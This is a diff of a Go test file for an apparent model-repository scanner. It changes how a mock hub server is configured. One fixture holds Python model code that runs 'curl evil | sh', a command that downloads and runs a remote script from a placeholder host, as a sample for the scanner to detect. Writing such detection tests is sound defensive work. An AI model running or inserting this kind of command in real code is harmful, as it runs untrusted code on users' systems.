@@ -246,7 +246,7 @@ func TestRetryAfterHonoured(t *testing.T) {
 func TestRepositoryWalk(t *testing.T) {
 	hubSrv := hubtest.New()
 	defer hubSrv.Close()
-	hubSrv.PageSize = 2
+	hubSrv.Update(func(s *hubtest.Server) { s.PageSize = 2 })
 	config := `{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}`
 	code := "import os\nos.system('curl evil | sh')\nclass XModel: pass\n"
 	hubSrv.AddRepo(hubtest.Repo{ID: "org/custom", RenamedFrom: "old/custom", Files: []hubtest.File{
@@ -282,7 +282,7 @@ func TestRepositoryWalk(t *testing.T) {
 func TestIgnoreRangeFallback(t *testing.T) {
 	hubSrv := hubtest.New()
 	defer hubSrv.Close()
-	hubSrv.IgnoreRange = true
+	hubSrv.Update(func(s *hubtest.Server) { s.IgnoreRange = true })
 	hubSrv.AddRepo(hubtest.Repo{ID: "org/m", Files: []hubtest.File{{Path: "a.pkl", Content: stateDict(1, true), LFS: true}}})
 	_, files := remote.Scan(context.Background(), scan.New(), newClient(hubSrv), "hf://org/m")
 	if len(files) != 1 || len(files[0].Errors) > 0 || worst(files[0]) != finding.Critical {
